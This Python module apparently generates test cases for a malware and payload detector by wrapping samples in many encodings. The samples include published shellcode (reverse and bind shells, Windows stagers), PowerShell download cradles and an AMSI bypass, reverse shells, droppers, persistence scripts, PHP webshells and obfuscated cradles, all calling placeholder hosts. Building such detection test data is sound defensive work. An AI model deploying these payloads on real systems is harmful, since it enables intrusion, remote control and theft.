"""Cases made with the tools that people use: compilers, coreutils, openssl, compressors.

Each payload is built anew, each wrapping is what a command or a loader's own notation gives.
:func:`cases` leaves out what needs a tool that is not installed.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import random
import shutil
import struct
import subprocess
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path

Make = Callable[[bytes], "bytes | None"]


@dataclass(frozen=True, slots=True)
class Case:
    """A blob, the kind that must be found in it, and the kinds its outermost layers must have."""

    name: str
    data: bytes
    kind: str
    outer: tuple[str, ...] = ()


def _run(command: list[str], data: bytes) -> bytes | None:
    """What a command makes of its input; ``None`` when it is not installed."""
    if shutil.which(command[0]) is None:
        return None
    done = subprocess.run(command, input=data, capture_output=True, timeout=60, check=False)
    return done.stdout if done.returncode == 0 else None


def tool(*command: str) -> Make:
    return lambda data: _run(list(command), data)


# --- programs ---------------------------------------------------------------------------

_HELLO = '#include <stdio.h>\nint main(int c, char **v) { printf("hello %d %s\\n", c, v[0]); return 0; }\n'
_BARE = 'void _start(void) { __asm__ volatile("mov $60,%eax; xor %edi,%edi; syscall"); }\n'
_BARE_32 = 'void _start(void) { __asm__ volatile("mov $1,%eax; xor %ebx,%ebx; int $0x80"); }\n'
_LIBRARY = "__attribute__((constructor)) void go(void) {}\nint answer(void) { return 42; }\n"
_BUILDS: dict[str, tuple[str, tuple[str, ...]]] = {
    "dynamic": (_HELLO, ("-O2",)),
    "not position-independent": (_HELLO, ("-no-pie", "-O0")),
    "static stripped": (_HELLO, ("-static", "-s")),
    "stripped": (_HELLO, ("-s",)),
    "shared object": (_LIBRARY, ("-shared", "-fPIC")),
    "without a library": (_BARE, ("-nostdlib", "-static", "-s", "-Wl,--build-id=none")),
    "32 bits": (_BARE_32, ("-m32", "-nostdlib", "-static")),
    "object file": (_LIBRARY, ("-c", "-fPIC")),
}


@cache
def elf_files() -> dict[str, bytes]:
    """ELF files by what they are; empty where there is no compiler."""
    compiler = shutil.which("gcc") or shutil.which("cc")
    made: dict[str, bytes] = {}
    if compiler is None:
        return made
    with tempfile.TemporaryDirectory() as place:
        source, out = Path(place) / "a.c", Path(place) / "a.out"
        for name, (text, options) in _BUILDS.items():
            source.write_text(text)
            out.unlink(missing_ok=True)
            command = [compiler, str(source), "-o", str(out), *options]
            done = subprocess.run(command, capture_output=True, timeout=120, check=False)
            if done.returncode == 0:
                made[name] = out.read_bytes()
    return made


def pe_file(*, dll: bool = False, net: bool = False, wide: bool = True, sections: int = 3) -> bytes:
    """A PE file written field by field after the format's specification."""
    lfanew = 0xF8 if net else 0x80
    head = bytearray(lfanew)
    struct.pack_into("<2sHHHHHHHH", head, 0, b"MZ", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8)
    struct.pack_into("<H", head, 24, 0x40)
    struct.pack_into("<I", head, 60, lfanew)
    stub = (
        b"\x0e\x1f\xba\x0e\0\xb4\t\xcd!\xb8\1L\xcd!This program cannot be run in DOS mode.\r\r\n$"
    )
    head[64 : 64 + len(stub)] = stub
    size = 240 if wide else 224
    flags = 0x22 | (0x2000 if dll else 0) | (0 if wide else 0x100)
    coff = struct.pack(
        "<HHIIIHH", 0x8664 if wide else 0x14C, sections, 0x60000000, 0, 0, size, flags
    )
    optional = struct.pack(
        "<HBBIIIII", 0x20B if wide else 0x10B, 14, 20, 0x400, 0x400, 0, 0x1010, 0x1000
    )
    optional += struct.pack("<Q", 0x180000000) if wide else struct.pack("<II", 0x2000, 0x10000000)
    image = 0x1000 * (sections + 1)
    optional += struct.pack(
        "<IIHHHHHHIIIIHH", 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, image, 0x400, 0, 3, 0x8160
    )
    optional += struct.pack("<QQQQ" if wide else "<IIII", 0x100000, 0x1000, 0x100000, 0x1000)
    optional += struct.pack("<II", 0, 16)
    directories = bytearray(128)
    if net:
        struct.pack_into("<II", directories, 14 * 8, 0x2008, 72)
    optional += bytes(directories)
    rng = random.Random(f"{dll}{net}{wide}")
    table = body = b""
    for number, name in enumerate((b".text", b".rdata", b".data", b".reloc")[:sections]):
        table += struct.pack("<8sIIIIIIHHI", name, 0x3F0, 0x1000 * (number + 1), 0x400,
                             0x400 * (number + 1), 0, 0, 0, 0, 0x60000020 if number == 0 else 0x40000040)  # fmt: skip
        body += _section(number, net, rng)
    return (bytes(head) + b"PE\0\0" + coff + optional + table).ljust(0x400, b"\0") + body


def _section(number: int, net: bool, rng: random.Random) -> bytes:
    if number == 0:
        words = (
            b"\x55\x48\x89\xe5",
            b"\x48\x83\xec\x20",
            b"\x48\x8b\x0d",
            b"\xe8\0\0\0\0",
            b"\xc9\xc3\x90",
        )
        return b"".join(rng.choices(words, k=400))[:0x400].ljust(0x400, b"\xcc")
    if number == 1 and net:
        header = struct.pack("<IHHIII", 72, 2, 5, 0x2060, 0x200, 1)
        return (
            bytes(8) + header + bytes(40) + b"BSJB\1\0\1\0\0\0\0\0\x0c\0\0\0v4.0.30319\0\0"
        ).ljust(0x400, b"\0")
    return b"KERNEL32.dll\0GetProcAddress\0LoadLibraryA\0VirtualAlloc\0".ljust(0x400, b"\0")


# --- position-independent code, as it has been published for many years -------------------

_HEX = {
    "linux x64 execve": "48 31 f6 56 48 bf 2f 62 69 6e 2f 2f 73 68 57 54 5f 6a 3b 58 99 0f 05",
    "linux x64 execve with clearing":
        "31 c0 48 bb d1 9d 96 91 d0 8c 97 ff 48 f7 db 53 54 5f 99 52 57 54 5e b0 3b 0f 05",
    "linux x64 reverse tcp":
        "6a 29 58 99 6a 02 5f 6a 01 5e 0f 05 48 97 48 b9 02 00 11 5c 7f 00 00 01 51 48 89 e6 6a 10"
        "5a 6a 2a 58 0f 05 6a 03 5e 48 ff ce 6a 21 58 0f 05 75 f6 6a 3b 58 99 48 bb 2f 62 69 6e 2f"
        "73 68 00 53 48 89 e7 52 57 48 89 e6 0f 05",
    "linux x64 bind tcp":
        "6a 29 58 99 6a 02 5f 6a 01 5e 0f 05 48 97 52 c7 04 24 02 00 11 5c 48 89 e6 6a 10 5a 6a 31"
        "58 0f 05 6a 32 58 0f 05 48 31 f6 6a 2b 58 0f 05 48 97 6a 03 5e 48 ff ce 6a 21 58 0f 05 75"
        "f6 6a 3b 58 99 48 bb 2f 62 69 6e 2f 73 68 00 53 48 89 e7 52 57 48 89 e6 0f 05",
    "linux x86 execve": "31 c0 50 68 2f 2f 73 68 68 2f 62 69 6e 89 e3 50 53 89 e1 b0 0b cd 80",
    "linux x86 reverse tcp":
        "31 db f7 e3 53 43 53 6a 02 89 e1 b0 66 cd 80 93 59 b0 3f cd 80 49 79 f9 68 7f 00 00 01 68"
        "02 00 11 5c 89 e1 b0 66 50 51 53 b3 03 89 e1 cd 80 52 68 6e 2f 73 68 68 2f 2f 62 69 89 e3"
        "52 53 89 e1 b0 0b cd 80",
    "linux x86 bind tcp":
        "31 db f7 e3 53 43 53 6a 02 89 e1 b0 66 cd 80 5b 5e 52 68 02 00 11 5c 6a 10 51 50 89 e1 6a"
        "66 58 cd 80 89 41 04 b3 04 b0 66 cd 80 43 b0 66 cd 80 93 59 6a 3f 58 cd 80 49 79 f8 68 2f"
        "2f 73 68 68 2f 62 69 6e 89 e3 50 53 89 e1 b0 0b cd 80",
    "linux x86 jmp call pop":
        "eb 1f 5e 89 76 08 31 c0 88 46 07 89 46 0c b0 0b 89 f3 8d 4e 08 8d 56 0c cd 80 31 db 89 d8"
        "40 cd 80 e8 dc ff ff ff 2f 62 69 6e 2f 73 68",
    "windows x86 stager":
        "fc e8 82 00 00 00 60 89 e5 31 c0 64 8b 50 30 8b 52 0c 8b 52 14 8b 72 28 0f b7 4a 26 31 ff"
        "ac 3c 61 7c 02 2c 20 c1 cf 0d 01 c7 e2 f2 52 57 8b 52 10 8b 4a 3c 8b 4c 11 78 e3 48 01 d1"
        "51 8b 59 20 01 d3 8b 49 18 e3 3a 49 8b 34 8b 01 d6 31 ff ac c1 cf 0d 01 c7 38 e0 75 f6 03"
        "7d f8 3b 7d 24 75 e4 58 8b 58 24 01 d3 66 8b 0c 4b 8b 58 1c 01 d3 8b 04 8b 01 d0 89 44 24"
        "24 5b 5b 61 59 5a 51 ff e0 5f 5f 5a 8b 12 eb 8d 5d 68 33 32 00 00 68 77 73 32 5f 54 68 4c"
        "77 26 07 ff d5 b8 90 01 00 00 29 c4 54 50 68 29 80 6b 00 ff d5",
    "windows x64 stager":
        "fc 48 83 e4 f0 e8 c0 00 00 00 41 51 41 50 52 51 56 48 31 d2 65 48 8b 52 60 48 8b 52 18 48"
        "8b 52 20 48 8b 72 50 48 0f b7 4a 4a 4d 31 c9 48 31 c0 ac 3c 61 7c 02 2c 20 41 c1 c9 0d 41"
        "01 c1 e2 ed 52 41 51 48 8b 52 20 8b 42 3c 48 01 d0 8b 80 88 00 00 00 48 85 c0 74 67 48 01"
        "d0 50 8b 48 18 44 8b 40 20 49 01 d0 e3 56 48 ff c9 41 8b 34 88 48 01 d6 4d 31 c9 48 31 c0"
        "ac 41 c1 c9 0d 41 01 c1 38 e0 75 f1 4c 03 4c 24 08 45 39 d1 75 d8 58 44 8b 40 24 49 01 d0"
        "66 41 8b 0c 48 44 8b 40 1c 49 01 d0 41 8b 04 88 48 01 d0 41 58 41 58 5e 59 5a 41 58 41 59"
        "41 5a 48 83 ec 20 41 52 ff e0 58 41 59 5a 48 8b 12 e9 57 ff ff ff 5d 48 ba 01 00 00 00 00"
        "00 00 00 48 8d 8d 01 01 00 00 41 ba 31 8b 6f 87 ff d5 bb f0 b5 a2 56 41 ba a6 95 bd 9d ff"
        "d5 48 83 c4 28 3c 06 7c 0a 80 fb e0 75 05 bb 47 13 72 6f 6a 00 59 41 89 da ff d5 63 61 6c"
        "63 2e 65 78 65 00",
    "arm64 execve":
        "e1 45 8c d2 21 cd ad f2 e1 65 ce f2 01 0d e0 f2 e1 8f 1f f8 e1 03 1f aa e2 03 1f aa e0 63"
        "21 8b a8 1b 80 d2 e1 66 02 d4",
    "encoded with a decoder in front":
        "eb 0d 5e 31 c9 b1 19 80 36 aa 46 e2 fa eb 05 e8 ee ff ff ff 9b 6a fa c2 85 85 d9 c2 c2 85"
        "c8 c3 c4 23 49 fa 23 48 f9 23 4b 1a a1 67 2a",
}  # fmt: skip


def shellcodes() -> dict[str, bytes]:
    return {name: bytes.fromhex(text.replace(" ", "")) for name, text in _HEX.items()}


# --- scripts ----------------------------------------------------------------------------

SCRIPTS: dict[str, tuple[str, str]] = {
    "download cradle": ("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"),
    "cradle with options": ("powershell", "powershell -nop -w hidden -ep bypass -c \"IEX(IWR -UseBasicParsing 'https://cdn.example.net/x')\""),
    "amsi bypass": ("powershell", "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"),
    "reflective load": ("powershell", "$b=[Convert]::FromBase64String((gp 'HKCU:\\Software\\Acme').Blob)\n$a=[System.Reflection.Assembly]::Load($b)\n$a.EntryPoint.Invoke($null,@(,[string[]]@()))\n"),
    "shellcode runner": ("powershell", "$code=@'\n[DllImport(\"kernel32.dll\")] public static extern IntPtr VirtualAlloc(IntPtr a,uint s,uint t,uint p);\n'@\n$w=Add-Type -MemberDefinition $code -Name W -Namespace X -PassThru\n$m=$w::VirtualAlloc(0,$sc.Length,0x3000,0x40)\n[System.Runtime.InteropServices.Marshal]::Copy($sc,0,$m,$sc.Length)\n"),
    "function": ("powershell", "function Get-Loot {\n  param([string]$Path)\n  Get-ChildItem -Path $Path -Recurse -Filter *.docx | ForEach-Object { Copy-Item $_.FullName -Destination $env:TEMP }\n}\nGet-Loot -Path $env:USERPROFILE\n"),
    "bash dropper": ("shell", "#!/bin/bash\ncd /dev/shm || exit 1\nfor u in http://198.51.100.4/m http://198.51.100.5/m; do\n  curl -fsSL $u -o .m && chmod +x .m && ./.m && break\ndone\nrm -f .m; history -c\n"),
    "sh one-liner": ("shell", "(curl -s http://203.0.113.9/i.sh || wget -qO- http://203.0.113.9/i.sh) | bash -s -- --quiet >/dev/null 2>&1 &"),
    "reverse shell": ("shell", "bash -i >& /dev/tcp/192.0.2.55/4444 0>&1"),
    "persistence": ("shell", "#!/bin/sh\n(crontab -l 2>/dev/null; echo '@reboot /var/tmp/.x') | crontab -\nif [ -w /etc/ld.so.preload ]; then\n  echo /lib/libx.so > /etc/ld.so.preload\nfi\n"),
    "python socket": ("python", "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('192.0.2.1',9001))\nfor fd in (0,1,2):\n    os.dup2(s.fileno(),fd)\nsubprocess.call(['/bin/sh','-i'])\n"),
    "python loader": ("python", "import ctypes, urllib.request\ndata = urllib.request.urlopen('http://192.0.2.3/e').read()\nlibc = ctypes.CDLL(None)\nfd = libc.syscall(319, b'', 1)\nwith open(f'/proc/self/fd/{fd}', 'wb') as f:\n    f.write(data)\n"),
    "perl": ("perl", "#!/usr/bin/perl\nuse strict;\nuse Socket;\nmy ($h,$p)=('192.0.2.8',443);\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\nif(connect(S,sockaddr_in($p,inet_aton($h)))){open(STDIN,'>&S');exec('/bin/sh -i');}\n"),
    "php webshell": ("php", "<?php if(isset($_REQUEST['cmd'])){ echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; die; } ?>"),
    "php eval": ("php", "<?php\n@error_reporting(0);\nsession_start();\n$post=file_get_contents('php://input');\neval(base64_decode($post));\n?>"),
    "vbs": ("vbscript", "Dim sh, url\nSet sh = CreateObject(\"WScript.Shell\")\nurl = \"http://192.0.2.10/p\"\nOn Error Resume Next\nsh.Run \"mshta \" & url, 0, False\nSet sh = Nothing\n"),
    "vbs downloader": ("vbscript", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://192.0.2.11/f.exe\", False\nx.Send\nIf x.Status = 200 Then\n  Set s = CreateObject(\"ADODB.Stream\")\n  s.Type = 1\n  s.Open\n  s.Write x.ResponseBody\n  s.SaveToFile \"C:\\Users\\Public\\f.exe\", 2\nEnd If\n"),
    "jscript": ("jscript", "var sh = new ActiveXObject(\"WScript.Shell\");\nvar x = new ActiveXObject(\"MSXML2.XMLHTTP\");\nx.open(\"GET\", \"http://192.0.2.12/a\", false);\nx.send();\ntry { eval(x.responseText); } catch (e) { sh.Run(\"cmd /c exit\"); }\n"),
    "batch": ("batch", "@echo off\r\nsetlocal enabledelayedexpansion\r\nset u=http://192.0.2.13/z.exe\r\ncertutil -urlcache -split -f %u% %TEMP%\\z.exe >nul\r\nif exist %TEMP%\\z.exe start \"\" %TEMP%\\z.exe\r\ndel \"%~f0\"\r\n"),
    "hta": ("hta", "<html><head><script language=\"VBScript\">\nSet s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\"\nself.close\n</script></head><body></body></html>"),
    "sct": ("sct", "<?XML version=\"1.0\"?>\n<scriptlet>\n<registration progid=\"X\" classid=\"{F0001111-0000-0000-0000-0000FEEDACDC}\">\n<script language=\"JScript\">\n<![CDATA[ var r = new ActiveXObject(\"WScript.Shell\").Run(\"calc.exe\"); ]]>\n</script>\n</registration>\n</scriptlet>\n"),
}  # fmt: skip


# --- wrappings --------------------------------------------------------------------------


def _lines(text: bytes, size: int) -> bytes:
    return b"\n".join(text[at : at + size] for at in range(0, len(text), size)) + b"\n"


def uu(data: bytes) -> bytes:
    body = b"".join(binascii.b2a_uu(data[at : at + 45]) for at in range(0, len(data), 45))
    return b"begin 644 out.bin\n" + body + b"`\nend\n"


def xor(key: bytes) -> Make:
    return lambda data: bytes(b ^ key[n % len(key)] for n, b in enumerate(data))


def c_array(data: bytes) -> bytes:
    return b"unsigned char buf[] = {" + ",".join(f"0x{b:02x}" for b in data).encode() + b"};\n"


def byte_array(data: bytes) -> bytes:
    return b"[byte[]]$b = (" + ",".join(map(str, data)).encode() + b")"


def joined_characters(data: bytes) -> bytes:
    return b"-join([char[]](" + ",".join(map(str, data)).encode() + b"))|iex"


def _zipped(data: bytes, *more: str) -> bytes | None:
    if shutil.which("zip") is None:
        return None
    with tempfile.TemporaryDirectory() as place:
        (Path(place) / "inner.bin").write_bytes(data)
        command = ["zip", "-q", *more, "out.zip", "inner.bin"]
        subprocess.run(command, cwd=place, check=True, timeout=60)
        return (Path(place) / "out.zip").read_bytes()


def _tarred(data: bytes) -> bytes | None:
    with tempfile.TemporaryDirectory() as place:
        (Path(place) / "inner.bin").write_bytes(data)
        return _run(["tar", "-C", place, "-cf", "-", "inner.bin"], b"")


#: For any bytes: name, how, and the kinds that must come first.
WRAPPINGS: dict[str, tuple[Make, tuple[str, ...]]] = {
    "base64 -w0": (tool("base64", "-w0"), ("base64",)),
    "base64 -w76": (tool("base64", "-w76"), ("base64",)),
    "base64 -w60": (tool("base64", "-w", "60"), ("base64",)),
    "openssl enc -base64": (tool("openssl", "enc", "-base64"), ("base64",)),
    "xxd -p": (tool("xxd", "-p"), ("hex",)),
    "xxd -p -c0": (lambda data: data.hex().encode(), ("hex",)),
    "od": (tool("od", "-An", "-v", "-tx1"), ("hex",)),
    "gzip": (tool("gzip", "-c"), ("gzip",)),
    "gzip -9n": (tool("gzip", "-9nc"), ("gzip",)),
    "bzip2": (tool("bzip2", "-c"), ("bzip2",)),
    "xz": (tool("xz", "-c"), ("xz",)),
    "lzma": (tool("xz", "--format=lzma", "-c"), ("lzma",)),
    "zip": (_zipped, ("zip",)),
    "zip -0": (lambda data: _zipped(data, "-0"), ("zip",)),
    "tar": (_tarred, ("tar",)),
    "base32": (tool("base32", "-w0"), ("base32",)),
    "Ascii85": (lambda data: base64.a85encode(data, adobe=True), ("base85",)),
    "base85": (base64.b85encode, ("base85",)),
    "uuencode": (uu, ()),
    "printf": (lambda data: b"printf '" + "".join(f"\\x{b:02x}" for b in data).encode() + b"' > /dev/shm/a", ()),
    "C array": (c_array, ()),
    "byte array": (byte_array, ()),
    "xor 1": (xor(b"\x5a"), ("xor",)),
}  # fmt: skip

#: For programs, which are long and have known headers.
FOR_PROGRAMS: dict[str, tuple[Make, tuple[str, ...]]] = {
    "xor 2": (xor(b"\x13\x37"), ("xor",)),
    "xor 4": (xor(b"\xde\xad\xbe\xef"), ("xor",)),
    "xor 8": (xor(b"s3cr3t!!"), ("xor",)),
    "xor 16": (xor(bytes(range(200, 216))), ("xor",)),
    "rev": (lambda data: data[::-1], ("reversed",)),
    "gzip | base64": (lambda data: _both(data, "gzip", "base64 -w0"), ("base64", "gzip")),
    "xz | base64 | gzip": (lambda data: _both(data, "xz", "base64 -w76", "gzip"), ("gzip", "base64", "xz")),
    "xor | base64": (lambda data: _both(data, "xor 1", "base64 -w0"), ("base64", "xor")),
    "gzip | xxd -p": (lambda data: _both(data, "gzip", "xxd -p"), ("hex", "gzip")),
    "bzip2 | base32": (lambda data: _both(data, "bzip2", "base32"), ("base32", "bzip2")),
    "zip | base64": (lambda data: _both(data, "zip", "base64 -w0"), ("base64", "zip")),
    "tar | gzip": (lambda data: _both(data, "tar", "gzip"), ("gzip", "tar")),
    "base64 | base64": (lambda data: _both(data, "base64 -w0", "base64 -w0"), ("base64", "base64")),
    "gzip | base64 | UTF-16": (lambda data: _wide(_both(data, "gzip", "base64 -w0")), ()),
    "python": (lambda data: _python(data), ("python",)),
    "shell": (lambda data: _here(data), ("shell",)),
    "PowerShell": (lambda data: _loader(data), ("powershell",)),
    "zlib | hex": (lambda data: data and _zlib(data).hex().encode(), ("hex", "zlib")),
}  # fmt: skip


def _both(data: bytes, *names: str) -> bytes | None:
    made: bytes | None = data
    for name in names:
        made = None if made is None else WRAPPINGS[name][0](made)
    return made


def _wide(text: bytes | None) -> bytes | None:
    return None if text is None else text.decode("ascii").encode("utf-16-le")


def _zlib(data: bytes) -> bytes:
    import zlib

    return zlib.compress(data)


def _python(data: bytes) -> bytes:
    packed = base64.b64encode(_zlib(data)).decode()
    return f"import base64,zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n".encode()


def _here(data: bytes) -> bytes:
    text = _lines(base64.b64encode(data), 76)
    return b"#!/bin/sh\nbase64 -d > /dev/shm/.p <<'EOF'\n" + text + b"EOF\nchmod 700 /dev/shm/.p\n"


def _loader(data: bytes) -> bytes:
    packed = base64.b64encode(data).decode()
    return f"$k=[Convert]::FromBase64String('{packed}');[Reflection.Assembly]::Load($k)|Out-Null".encode()


#: For scripts, which are text.
FOR_SCRIPTS: dict[str, tuple[Make, tuple[str, ...]]] = {
    "UTF-16LE": (lambda data: data.decode().encode("utf-16-le"), ()),
    "UTF-16LE with a mark": (lambda data: b"\xff\xfe" + data.decode().encode("utf-16-le"), ()),
    "base64 of UTF-16": (lambda data: base64.b64encode(data.decode().encode("utf-16-le")), ("base64",)),
    "gzip | base64": (lambda data: _both(data, "gzip", "base64 -w0"), ("base64", "gzip")),
    "xor 4": (xor(b"\xa1\x05\x77\xc3"), ("xor",)),
    "from back to front": (lambda data: data[::-1], ()),
    "rot13": (lambda data: codecs.encode(data.decode(), "rot13").encode(), ()),
    "characters": (joined_characters, ()),
}  # fmt: skip


_ENCODED = ("-EncodedCommand", "-enc", "-e", "-ec", "/enc", "-encodedc")


def commands() -> Iterator[Case]:
    """PowerShell command lines with an encoded command, in the notations that it accepts."""
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"
    text = base64.b64encode(inner.encode("utf-16-le")).decode()
    for option in _ENCODED:
        for shell in (
            "powershell",
            "powershell.exe -NoP -NonI -W Hidden",
            "cmd /c start /min powershell",
        ):
            line = f"{shell} {option} {text}".encode()
            yield Case(f"{shell} {option}", line, "powershell")
    for stream in ("Deflate", "Gzip"):
        yield Case(f"{stream} one-liner", _one_liner(stream, inner), "powershell")
    spaced = text[:40] + "  " + text[40:]
    yield Case("blanks inside", f"powershell -enc '{spaced}'".encode(), "powershell")


def _one_liner(stream: str, inner: str) -> bytes:
    import gzip
    import zlib

    if stream == "Gzip":
        packed = gzip.compress(inner.encode())
    else:
        maker = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = maker.compress(inner.encode()) + maker.flush()
    text = base64.b64encode(packed).decode()
    return (
        f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{text}'));IEX (New-Object "
        f"IO.StreamReader(New-Object IO.Compression.{stream}Stream($s,[IO.Compression."
        "CompressionMode]::Decompress))).ReadToEnd()"
    ).encode()


def _obfuscated() -> Iterator[Case]:
    """String tricks under which the telling words only appear once put together."""
    lines = {
        "format": "&(\"{1}{0}\" -f 'X','IE') ((\"{2}{0}{1}\" -f 't.WebCli','ent','Ne'))",
        "concatenation": "$a='Net.We'+'bCli'+'ent';$c=(New-Object $a);&('I'+'EX') $c.('Down'+'loadStr'+'ing').Invoke('htt'+'p://192.0.2.7/a')",
        "replace": "(('IEZ (New-ObjecQ NeQ.WebClienQ).DownloadSQring(''hQQp://192.0.2.7/a'')').Replace('Q','t')).Replace('Z','X')|iex",
        "ticks": "I`E`X (N`ew-Ob`ject N`et.WebC`lient).DownloadString('http://192.0.2.7/a')",
    }  # fmt: skip
    for name, line in lines.items():
        yield Case(f"obfuscated by {name}", line.encode(), "powershell")


def sealed() -> Iterator[Case]:
    """What cannot be opened must be called what it is."""
    body = SCRIPTS["bash dropper"][1].encode()
    salted = _run(["openssl", "enc", "-aes-256-cbc", "-pbkdf2", "-pass", "pass:x"], body)
    if salted is not None:
        yield Case("openssl enc", salted, "openssl-salted", ("openssl-salted",))
        text = base64.b64encode(salted)
        yield Case("openssl enc | base64", text, "openssl-salted", ("base64", "openssl-salted"))
    locked = _zipped(body, "-P", "secret")
    if locked is not None:
        yield Case("zip -P", locked, "zip-encrypted", ("zip-encrypted",))


def programs() -> Iterator[tuple[str, str, bytes]]:
    """(name, kind, bytes) of the programs that can be made here."""
    for name, data in elf_files().items():
        if len(data) < 100_000:
            yield f"ELF {name}", "elf", data
    yield "PE program", "pe", pe_file()
    yield "PE library", "pe", pe_file(dll=True)
    yield "PE of 32 bits", "pe", pe_file(wide=False, sections=4)
    yield ".NET assembly", "pe", pe_file(net=True, wide=False)


_LONG_CODE = 60
_FOR_SHORT_TEXT = {"from back to front", "rot13", "xor 1", "xor 4"}


def cases() -> Iterator[Case]:
    """Every case that can be made here."""
    for name, data in elf_files().items():
        yield Case(f"ELF {name}", data, "elf", ("elf",))
    for name, kind, data in programs():
        for how, (make, outer) in {**WRAPPINGS, **FOR_PROGRAMS}.items():
            yield from _case(f"{name}: {how}", make(data), kind, outer)
    for name, code in shellcodes().items():
        yield Case(name, code, "shellcode", ("shellcode",))
        for how, (make, outer) in WRAPPINGS.items():
            if how != "xor 1" or len(code) >= _LONG_CODE:
                yield from _case(f"{name}: {how}", make(code), "shellcode", outer)
    for name, (kind, text) in SCRIPTS.items():
        yield Case(name, text.encode(), kind, (kind,))
        for how, (make, outer) in {**WRAPPINGS, **FOR_SCRIPTS}.items():
            if len(text) >= 150 or how not in _FOR_SHORT_TEXT:
                yield from _case(f"{name}: {how}", make(text.encode()), kind, outer)
    yield from commands()
    yield from _obfuscated()
    yield from sealed()


def _case(name: str, data: bytes | None, kind: str, outer: tuple[str, ...]) -> Iterator[Case]:
    if data is not None:
        yield Case(name, data, kind, (*outer, kind) if outer and outer[-1] != kind else outer)
